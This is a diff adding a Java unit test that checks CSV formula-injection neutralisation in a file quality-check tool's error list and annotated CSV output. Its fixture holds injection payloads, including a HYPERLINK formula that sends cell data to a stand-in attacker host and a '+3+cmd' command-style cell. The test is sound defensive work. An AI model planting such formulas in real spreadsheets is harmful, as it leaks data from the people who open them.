@@ -91,6 +91,39 @@ class ErrorListTest {
         assertEquals("disque plein", thrown.getMessage());
     }
 
+    /**
+     * OWASP CSV injection: both downloads are made for a double click in a spreadsheet and carry the uploaded
+     * file's own values, so a value that would open as a formula gets a leading quote, in each part a
+     * spreadsheet may split off ({@code x;=2+3;y}); numbers stay numbers.
+     */
+    @Test
+    void neutralisesTheFilesFormulasInTheErrorListAndTheAnnotatedCsv(@TempDir Path dir) throws IOException {
+        Path file = Files.writeString(dir.resolve("e.csv"), TestSchemas.EQUIPEMENTS_HEADER + "\n"
+                + "E-1,\"x;=2+3;y\",=1+1,,,,@SUM(A1)\n"
+                + "E-2,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\",+3+cmd,,,-12,\n");
+        ByteArrayOutputStream list = new ByteArrayOutputStream();
+        ByteArrayOutputStream annotated = new ByteArrayOutputStream();
+
+        QualityCheck.of(TestSchemas.equipements()).run(file, OutputStream.nullOutputStream(),
+                ReportOutputs.none().withErrorList(list).withAnnotated(annotated, AnnotationFormat.CSV));
+
+        String errors = list.toString(StandardCharsets.UTF_8);
+        String rows = annotated.toString(StandardCharsets.UTF_8);
+        assertTrue(errors.contains(";capacite;type-error;'=1+1;"), errors);
+        assertTrue(errors.contains(";capacite;type-error;'+3+cmd;"), errors);
+        assertTrue(rows.contains(";\"x;'=2+3;y\";'=1+1;"), rows);
+        assertTrue(rows.contains(";'@SUM(A1)\r\n"), rows);
+        assertTrue(rows.contains("\"'=HYPERLINK("), rows);
+        assertTrue(rows.contains(";-12;"), "a negative number stays a number: " + rows);
+        for (String text : List.of(errors, rows)) {
+            for (String cell : text.replace("\uFEFF", "").split("[;,\r\n]+")) {
+                String value = cell.startsWith("\"") ? cell.substring(1) : cell;
+                assertTrue(value.isBlank() || "=+@".indexOf(value.strip().charAt(0)) < 0
+                        || value.strip().matches("[+-]?\\d+"), "« " + value + " » would open as a formula");
+            }
+        }
+    }
+
     /** The records of a list written by the engine, its byte order mark skipped. */
     static List<CsvRecord> read(byte[] bytes) {
         String text = new String(bytes, StandardCharsets.UTF_8);
